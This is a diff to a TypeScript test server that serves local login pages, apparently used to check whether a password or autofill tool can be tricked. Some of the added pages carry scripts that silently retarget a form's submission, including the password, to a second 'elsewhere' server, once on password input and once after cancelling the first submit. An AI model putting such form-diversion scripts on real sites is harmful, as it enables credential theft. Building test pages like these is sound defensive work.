@@ -6,8 +6,9 @@ import { createServer, type IncomingMessage } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join, normalize } from 'node:path';
 import { TOTP } from 'otpauth';
+import { HONEST_PAGES, TRICK_PAGES } from './elsewhere.ts';
 import { CODES, FAMILIES, LEFT_ALONE } from './families.ts';
-import { CLICKJACKED, FRAMED, HIDDEN, SENT_ELSEWHERE, TAMPERED } from './hostile.ts';
+import { CLICKJACKED, FRAMED, HIDDEN, TAMPERED } from './hostile.ts';
 
 export const NAME = 'ward-7';
 export const PASSWORD = 'Blue-Kettle-42';
@@ -50,6 +51,9 @@ const PAGES: Record<string, string> = {
   ),
   '/elsewhere': form(FIELDS + BUTTON, 'method="post" action="http://localhost:ELSEWHERE/session"'),
   '/diverted': `${form(FIELDS + BUTTON)}<script>document.querySelector('[name=password]').addEventListener('input', () => { document.forms[0].action = 'http://localhost:ELSEWHERE/session' })</script>`,
+  '/diverted-later': `${form(FIELDS + BUTTON)}<script>let first = true; const form = document.forms[0]; form.addEventListener('submit', (event) => { if (!first) return; first = false; event.preventDefault();
+    setTimeout(() => { form.action = 'http://localhost:ELSEWHERE/session'; form.requestSubmit() }, 300) })</script>`,
+  '/into-its-address': form(FIELDS + BUTTON, 'action="/session"'),
   '/clobbered': form(`<input type="hidden" name="action" value="/session">${FIELDS}${BUTTON}`),
   '/sign-up': form(
     `<label>E-mail <input name="user" type="email"></label><label>New password <input name="a" type="password" autocomplete="new-password"></label>
@@ -183,7 +187,8 @@ const COLLECTIONS: Record<string, Record<string, string>> = {
     first: form(FIELDS + BUTTON),
     other: form(`${FIELDS}<input type="hidden" name="other" value="1">${BUTTON}`),
   },
-  'sent-elsewhere': SENT_ELSEWHERE,
+  trick: TRICK_PAGES,
+  honest: HONEST_PAGES,
 };
 
 const html = (title: string, body: string) =>
@@ -195,6 +200,8 @@ export interface Sites {
   challenged: number;
   /** Everything that was posted, oldest first. */
   posted: URLSearchParams[];
+  /** All that every request said: method, full address, body. */
+  heard: string[];
   /** When the last one came, ms since 1970. */
   postedAt: number;
   close(): void;
@@ -203,9 +210,12 @@ export interface Sites {
 /** Starts the pages on the loopback. Another instance on another port is "elsewhere". */
 export async function startSites(elsewhere = 0): Promise<Sites> {
   const posted: URLSearchParams[] = [];
+  const heard: string[] = [];
   const nonce = randomBytes(12).toString('hex');
   const server = createServer((request, response) => {
     const { pathname, searchParams } = new URL(request.url ?? '/', 'http://site');
+    const said = `${request.method} http://${request.headers.host}${request.url}`;
+    if (request.method !== 'POST') heard.push(said);
     const send = (status: number, body: string, type = 'text/html; charset=utf-8') =>
       response.writeHead(status, { 'content-type': type }).end(body);
     if (pathname === '/basic' || pathname === '/digest') {
@@ -224,6 +234,7 @@ export async function startSites(elsewhere = 0): Promise<Sites> {
       request.on('end', () => {
         const given = new URLSearchParams(body);
         posted.push(given);
+        heard.push(`${said} ${body}`);
         sites.postedAt = Date.now();
         const [, first, story = ''] = pathname.split('/');
         const walk = first === 'steps' ? STEPS[story] : undefined;
@@ -249,7 +260,13 @@ export async function startSites(elsewhere = 0): Promise<Sites> {
       (collection === 'steps' ? (name === 'spa' ? SPA : STEPS[name]?.first) : undefined) ??
       PAGES[pathname] ??
       COLLECTIONS[collection]?.[name];
-    send(page ? 200 : 404, html('A site', (page ?? 'Nothing here').replaceAll('ELSEWHERE', String(elsewhere))));
+    send(
+      page === undefined ? 404 : 200,
+      html(
+        'A site',
+        (page ?? 'Nothing here').replaceAll('ELSEWHERE', String(elsewhere)).replaceAll('OWNPORT', String(port)),
+      ),
+    );
   }).listen(0, '127.0.0.1');
   await new Promise((resolve) => server.once('listening', resolve));
   const { port } = server.address() as AddressInfo;
@@ -257,6 +274,7 @@ export async function startSites(elsewhere = 0): Promise<Sites> {
     origin: `http://127.0.0.1:${port}`,
     challenged: 0,
     posted,
+    heard,
     postedAt: 0,
     close() {
       server.closeAllConnections();
